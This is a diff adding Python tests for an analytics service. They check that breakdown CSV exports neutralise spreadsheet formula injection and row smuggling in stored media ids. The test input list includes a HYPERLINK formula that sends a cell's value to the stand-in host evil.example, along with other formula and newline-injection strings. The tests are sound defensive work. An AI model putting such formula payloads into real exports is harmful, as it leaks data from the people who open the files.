@@ -177,3 +177,45 @@ def test_a_database_outage_answers_503_to_admins(server, tenant_factory, store):
     assert r.status_code == 503 and r.headers["retry-after"] == "5"
     assert r.json() == {"error": "unavailable",
                         "detail": {"path": "$", "message": "the database is unavailable; retry shortly"}}
+
+
+HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1)", "+1+1", "-1-1", "\tx", "\r=1+1",
+               "a\r\nb,c;=2+2", 'say "hi"', "plain"]
+
+
+def test_breakdown_csv_cells_cannot_be_formulas_or_rows(server, tenant_factory, store):
+    """Media ids stored before ids were checked (or through another edge) reach the CSV as
+    text: a leading = + - @ tab CR gets a ' (OWASP), every text cell is quoted, so a CR, LF,
+    comma or semicolon in a value stays inside its cell."""
+    tenant, key = tenant_factory()
+    t0 = time.time() - HOUR
+    since = time.time() - 1
+    for i, video_id in enumerate(HOSTILE_IDS):
+        for j in range(5):  # five viewers each: no row is small enough to be folded away
+            store_view(store, tenant.tenant_id, f"view-{i}-{j}", [(0, "viewstart"), (1, "playing"), (5, "viewend")],
+                       video_id, t0=t0 + i, viewer_id=f"viewer-{j}")
+    rollup.fold_touched(store, since)
+    r = server.http.get("/v1/analytics/breakdown", headers=_admin(key),
+                        params={"dimension": "video", "format": "csv", "limit": 100,
+                                "from": _iso(t0 - HOUR), "to": _iso(t0 + HOUR)})
+    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(r.text)))
+    assert rows[0][0] == "value" and len(rows) == 1 + len(HOSTILE_IDS)  # no smuggled rows
+    values = [row[0] for row in rows[1:]]
+    expected = {("'" + v if v[0] in "=+-@\t\r" else v) for v in HOSTILE_IDS}
+    assert set(values) == expected
+    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in values)
+    assert '"a\r\nb,c;=2+2"' in r.text  # quoted whole: no new row, no cell split on , or ;
+    assert all(row[1] == "5" for row in rows[1:])  # numbers stay numbers
+
+
+def test_csv_cells_are_neutralised_and_numbers_kept():
+    from analytics import safe_csv
+
+    rows = [{"a": "=1+1", "b": -3, "c": None}, {"a": "x\ry", "b": 2.5, "c": True},
+            {"a": "k;=2", "b": "-2", "c": 'say "hi"'}, {"a": "@x", "b": "\t=1", "c": "plain"}]
+    text = safe_csv.table(["a", "b", "c"], rows)
+    assert text == ("a,b,c\n'=1+1,-3,\n\"x\ry\",2.5,True\n\"k;=2\",'-2,\"say \"\"hi\"\"\"\n"
+                    "'@x,\"'\t=1\",plain\n")
+    assert list(csv.reader(io.StringIO(text)))[1:] == [["'=1+1", "-3", ""], ["x\ry", "2.5", "True"],
+                                                       ["k;=2", "'-2", 'say "hi"'], ["'@x", "'\t=1", "plain"]]
